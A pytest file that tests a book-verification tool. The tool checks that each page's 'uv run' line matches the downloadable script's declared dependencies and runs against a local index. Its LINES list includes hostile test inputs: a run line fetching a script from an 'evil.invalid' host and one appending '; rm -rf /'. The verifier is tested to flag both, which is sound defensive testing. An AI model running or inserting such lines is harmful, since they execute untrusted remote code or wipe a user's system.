"""The line for uv: it declares what the page says, and runs with nothing but an index of packages."""

import shutil
import subprocess
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from cardbook.verify.checks import check_files
from cardbook.verify.environments import read_install_line
from cardbook.verify.extraction import ExtractedExample, extract_examples
from tests.browser.chromium import serve
from tests.conftest import Cardbook, replace
from tests.verify.local_index import local_index
from tests.verify.test_verify import packages as packages
from tests.verify.test_verify import packages_site as packages_site
from tests.verify.test_verify import plain as plain
from tests.verify.test_verify import plain_site as plain_site

# Of the real book: an example with few and small packages, whose output does not vary.
LIGHT = "hugging_face_account"


def example_of(site: Path, name: str) -> ExtractedExample:
    return next(example for example in extract_examples(site) if example.example == name)


@pytest.fixture(scope="module", autouse=True)
def _uv() -> None:
    if shutil.which("uv") is None:
        pytest.fail("uv is missing: make uv", pytrace=False)


@pytest.fixture(scope="module")
def index(
    site: Path, packages_site: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Mapping[str, str]]:
    """The variables of an index with the packages of both examples below."""
    lines = [example_of(packages_site, "first").install, example_of(site, LIGHT).install]
    requirements = [requirement for line in lines for requirement in read_install_line(line)]
    with local_index(tmp_path_factory.mktemp("index"), requirements) as variables:
        yield variables


def fault_of(site: Path, address: str = "") -> str:
    """Return what the static check says of the first example's line for uv."""
    results = check_files(example_of(site, "first"), address)
    return next(result.fault for result in results if result.place == "uv")


def run_line(site: Path, name: str, index: Mapping[str, str], folder: Path) -> str:
    """Run the line of the page, as the browser completes it, in a folder; return what it prints."""
    command, _, script = example_of(site, name).run.rpartition(" ")
    with serve(site) as address:
        line = f"{command} {address}downloads/{script}"
        outcome = subprocess.run(line.split(), cwd=folder, env=index, capture_output=True, text=True)
    assert outcome.returncode == 0, outcome.stderr
    return outcome.stdout


@pytest.mark.parametrize("book", ["small", "real"])
def test_line_prints_what_the_page_shows(
    book: str, site: Path, packages_site: Path, index: Mapping[str, str], tmp_path: Path
) -> None:
    place, name = (site, LIGHT) if book == "real" else (packages_site, "first")
    printed = run_line(place, name, index, tmp_path)
    shown = [snippet.shown for snippet in example_of(place, name).snippets]
    lines = [line for outputs in shown for line in outputs.lines]
    cells = {cell for outputs in shown for table in outputs.tables for row in table.rows for cell in row}
    assert lines or cells
    assert [line for line in printed.splitlines() if line.strip() and "|" not in line] == lines
    assert all(cell in printed for cell in cells)


def test_verify_with_uv_runs_what_the_metadata_declares(
    packages: Path, index: Mapping[str, str], cardbook: Cardbook
) -> None:
    outcome = cardbook("verify", packages, "--root", packages.parent, "--uv", **index)
    assert outcome.stderr == ""
    assert outcome.returncode == 0
    script = packages / "downloads" / "first.py"
    line = next(line for line in script.read_text().splitlines(keepends=True) if "tabulate==" in line)
    replace(script, line, "")
    outcome = cardbook("verify", packages, "--root", packages.parent, "--uv", **index)
    assert outcome.returncode == 1
    assert "first: uv: the script declares" in outcome.stderr
    assert "ModuleNotFoundError: No module named 'tabulate'" in outcome.stderr


def test_package_that_the_index_lacks_is_reported(
    packages: Path, index: Mapping[str, str], cardbook: Cardbook
) -> None:
    replace(packages / "downloads" / "first.py", '"tabulate==', '"tabulate==999.')
    outcome = cardbook("verify", packages, "--root", packages.parent, "--uv", **index)
    assert outcome.returncode == 1
    assert "first: install line: uv failed: " in outcome.stderr


def test_pip_and_uv_exclude_each_other(packages: Path, cardbook: Cardbook) -> None:
    outcome = cardbook("verify", packages, "--root", packages.parent, "--uv", "--pip")
    assert outcome.returncode == 2
    assert outcome.stderr.endswith("Error: choose --pip or --uv\n")


@pytest.mark.parametrize(
    ("before", "after", "fault"),
    [
        ('"matplotlib==', '"matplotlib>=', "the script declares"),
        ('# requires-python = "==3', '# requires-python = ">=3', "the script declares"),
        ("# dependencies", "# [tool.uv]\n# dependencies", "the script declares"),
        ("# dependencies = [", "# dependencies = ", "the script's metadata cannot be read: "),
        ("# /// script\n", "# /// scripts\n", "the script has 0 blocks of metadata, not one"),
    ],
)
def test_metadata_that_differs_from_the_page_is_found(
    packages: Path, before: str, after: str, fault: str
) -> None:
    assert fault_of(packages) == ""
    replace(packages / "downloads" / "first.py", before, after)
    assert fault_of(packages).startswith(fault)


LINES = [
    "uv run other.py",
    "uv run --with other first.py",
    "",
    "pipx run first.py",
    "uv run https://evil.invalid/first.py",
    "uv run https://book.invalid/downloads/first.py; rm -rf /",
]


@pytest.mark.parametrize("line", LINES)
@pytest.mark.parametrize("address", ["", "https://book.invalid/"])
def test_line_that_runs_something_else_is_found(packages: Path, address: str, line: str) -> None:
    page = packages / "chapters" / "numbers" / "index.html"
    right = f"uv run {address}downloads/first.py" if address else "uv run first.py"
    replace(page, "uv run first.py", right)
    assert fault_of(packages, address) == ""
    replace(page, right, line)
    assert fault_of(packages, address).startswith(f'its line is "{line}", not "{right}" (BOOK_ADDRESS is ')


def test_second_line_is_found(packages: Path) -> None:
    page = packages / "chapters" / "numbers" / "index.html"
    replace(page, "<details", '<div class="run-line"><pre>uv run evil.py</pre></div><details')
    assert example_of(packages, "first").faults == ("it has 2 elements .run-line pre",)
